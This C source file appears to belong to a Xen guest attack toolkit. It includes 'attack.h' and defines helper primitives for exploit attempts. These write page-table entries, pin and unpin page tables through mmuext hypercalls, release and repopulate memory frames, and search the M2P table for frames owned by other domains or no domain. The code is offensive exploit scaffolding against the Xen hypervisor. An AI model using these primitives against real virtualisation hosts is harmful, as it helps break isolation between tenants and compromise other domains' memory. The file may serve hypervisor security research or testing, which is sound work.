/* What many attempts need: entries, pins, reservations, and frames that belong to others. */
#include "attack.h"

uint64_t machine_of(const void *va)
{
    return (uint64_t)mfn_of(va) << 12;
}

uint64_t entry_of(const void *va, uint64_t flags)
{
    return machine_of(va) | flags;
}

int read_only(void *va)
{
    return pte_write((unsigned long)va, entry_of(va, READ_ONLY));
}

int writable(void *va)
{
    return pte_write((unsigned long)va, entry_of(va, PTE_DATA));
}

uint64_t own_table(unsigned int level)
{
    return pte_machine_address(VA(0), level) & PTE_FRAME;
}

uint64_t new_region_entry(void)
{
    return pte_machine_address(NEW_REGION, 2);
}

int extended(unsigned int command, unsigned long first, unsigned long second)
{
    mmuext_op_t operation = {.cmd = command, .arg1.linear_addr = first, .arg2.src_mfn = second};
    return (int)hypercall_mmuext_op(&operation, 1, NULL, DOMID_SELF);
}

int pin(unsigned int level, const void *va)
{
    return extended(MMUEXT_PIN_L1_TABLE + level - 1, mfn_of(va), 0);
}

int unpin(const void *va)
{
    return extended(MMUEXT_UNPIN_TABLE, mfn_of(va), 0);
}

long reservation(unsigned int command, xen_pfn_t *frame)
{
    struct xen_memory_reservation change = {.nr_extents = 1, .domid = DOMID_SELF};
    set_xen_guest_handle(change.extent_start, frame);
    return hypercall_memory_op(command, &change);
}

bool give_back(const void *va)
{
    xen_pfn_t frame = mfn_of(va);
    return reservation(XENMEM_decrease_reservation, &frame) == 1;
}

bool take_again(void *va)
{
    xen_pfn_t frame = pfn_of(va);
    if (reservation(XENMEM_populate_physmap, &frame) != 1)
        return false;
    p2m[pfn_of(va)] = frame;
    return !writable(va);
}

/* M2P says what its owner calls a frame; a frame below the first MiB is no domain's. */
unsigned long foreign_frame(void)
{
    unsigned long frames = (unsigned long)hypercall_memory_op(XENMEM_maximum_ram_page, NULL), nobodys = 0;
    for (unsigned long frame = 0x100; frame < frames; frame++) {
        unsigned long pfn = m2p[frame];
        if (pfn < start_info->nr_pages && p2m[pfn] == frame)
            continue;
        if (pfn < frames && (pfn >= start_info->nr_pages || p2m[pfn] != frame))
            return frame;
        if (!nobodys)
            nobodys = frame;
    }
    return nobodys;
}

unsigned long m2p_frame(void)
{
    xen_pfn_t frame = 0;
    struct xen_machphys_mfn_list list = {.max_extents = 1};
    set_xen_guest_handle(list.extent_start, &frame);
    hypercall_memory_op(XENMEM_machphys_mfn_list, &list);
    return frame;
}
